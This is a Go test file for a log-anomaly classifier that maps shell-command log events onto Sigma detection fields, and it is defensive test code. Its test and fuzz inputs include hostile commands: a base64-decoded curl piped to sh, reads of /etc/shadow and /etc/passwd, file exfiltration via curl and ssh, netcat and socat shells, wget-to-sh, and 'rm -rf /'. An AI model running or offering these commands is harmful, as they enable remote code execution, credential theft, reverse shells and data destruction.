package taxonomy

import (
	"strings"
	"testing"

	"github.com/logwarden/logwarden/pkg/logwardenpb"
	"github.com/logwarden/logwarden/services/anomaly-classifier/internal/sigma"
)

func find(evs []sigma.Event, src sigma.Source, field, value string) bool {
	for i := range evs {
		if evs[i].Source != src {
			continue
		}
		for _, v := range evs[i].Values(field) {
			if v.Orig == value {
				return true
			}
		}
	}
	return false
}

func TestMapCommand(t *testing.T) {
	m := NewMapper()
	ev := &logwardenpb.LogEvent{User: "bob", Ip: "10.0.0.1", Action: "command", Raw: "raw line",
		Target: "echo Y3VybCBodHRwOi8vMTAuMC4wLjkvYQ== | base64 -d | sh; cat /etc/shadow > ~/.cache/s; curl -o /tmp/x http://198.51.100.4:8080/p"}
	evs := m.Map(ev)
	checks := []struct {
		src          sigma.Source
		field, value string
	}{
		{messageSources[0], sigma.Keywords, "raw line"},
		{ProcessCreation, "Image", "/usr/bin/sh"},
		{ProcessCreation, "PipeFrom", "/usr/bin/base64"},
		{ProcessCreation, "CommandLine", "curl http://10.0.0.9/a"}, // decoded payload
		{ProcessCreation, "Via", "base64"},
		{ProcessCreation, "ParentImage", "/usr/bin/base64"},
		{ProcessCreation, "User", "bob"},
		{ProcessCreation, "RedirectOut", "/home/bob/.cache/s"},
		{FileAccess, "TargetFilename", "/etc/shadow"},
		{FileEvent, "TargetFilename", "/home/bob/.cache/s"},
		{FileEvent, "TargetFilename", "/tmp/x"},
		{NetworkConnection, "DestinationIp", "198.51.100.4"},
		{NetworkConnection, "DestinationPort", "8080"},
		{Auditd, "a0", "cat"},
		{Auditd, "a1", "/etc/shadow"},
	}
	for _, c := range checks {
		if !find(evs, c.src, c.field, c.value) {
			t.Errorf("no %v event with %s=%q", c.src, c.field, c.value)
		}
	}
}

func TestMapSudoAndFiles(t *testing.T) {
	m := NewMapper()
	evs := m.Map(&logwardenpb.LogEvent{User: "alice", Action: "sudo", Target: "/bin/cat /etc/shadow",
		Fields: map[string]string{"syslog.program": "sudo", "sudo.run_as": "root", "sudo.pwd": "/home/alice"}})
	if !find(evs, ProcessCreation, "User", "root") || !find(evs, ProcessCreation, "SubjectUser", "alice") ||
		!find(evs, ProcessCreation, "ParentImage", "/usr/bin/sudo") || !find(evs, messageSources[5], "USER", "root") {
		t.Fatalf("sudo events %+v", evs)
	}
	evs = m.Map(&logwardenpb.LogEvent{User: "bob", Action: "file_access", Target: "/srv/app/.env"})
	if !find(evs, FileAccess, "TargetFilename", "/srv/app/.env") || !find(evs, FileAccess, "User", "bob") {
		t.Fatal("file event")
	}
	// an unparsable line is still matched on its words
	evs = m.Map(&logwardenpb.LogEvent{User: "eve", Action: "command", Target: "rm -rf / <@U1> \t"})
	if !find(evs, ProcessCreation, "Args", "/") || !find(evs, ProcessCreation, "CommandLine", "rm -rf / <@U1> \t") {
		t.Fatal("raw fallback")
	}
}

func TestOptions(t *testing.T) {
	o := Options()
	if !o.Covered(sigma.Logsource{Product: "linux", Category: "process_creation"}) || o.Covered(sigma.Logsource{Product: "windows"}) {
		t.Fatal("covered")
	}
	if !o.KnownField(sigma.Logsource{Product: "linux", Category: "process_creation"}, "CommandLine") ||
		o.KnownField(sigma.Logsource{Product: "linux", Category: "process_creation"}, "LogonId") ||
		!o.KnownField(sigma.Logsource{Product: "linux", Service: "auditd"}, "a7") {
		t.Fatal("fields")
	}
}

func FuzzMap(f *testing.F) {
	for _, s := range []string{"ls", "> x", "cp a b c/", "curl -F f=@/etc/passwd http://h", "nc h 1", "socat tcp:h:1,x exec:sh",
		"crontab -u x -", "sed -i s/a/b/ f", "dd if=a of=b", "'", "wget -O- u | sh", "tar czf - / | ssh 1.2.3.4 x"} {
		f.Add(s, "bob")
	}
	m := NewMapper()
	f.Fuzz(func(t *testing.T, cmd, user string) {
		for _, action := range []string{"command", "sudo", "file_access"} {
			evs := m.Map(&logwardenpb.LogEvent{User: user, Action: action, Target: cmd, Raw: cmd})
			if len(evs) == 0 || !strings.Contains(evs[0].First(sigma.Keywords), cmd) {
				t.Fatal("no message event")
			}
		}
	})
}

// Events that MayDerive rules out have no derived events.
func TestMayDerive(t *testing.T) {
	m := NewMapper()
	for _, ev := range []*logwardenpb.LogEvent{
		{Action: "command", Target: "cat /etc/shadow"},
		{Action: "sudo", Target: "/bin/bash", Fields: map[string]string{"syslog.program": "sudo"}},
		{Action: "file_access", Target: "/etc/shadow"},
		{Action: "command"},
		{Action: "file_access"},
		{Action: "login", Target: "root"},
		{Action: "dir_access", Target: "/etc"},
		{Raw: "Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user webmaster from 173.234.31.186"},
	} {
		m.MapMessage(ev)
		if n := len(m.MapDerived(ev)); n > 0 && !MayDerive(ev) {
			t.Errorf("%v: %d derived events, MayDerive false", ev, n)
		}
	}
}
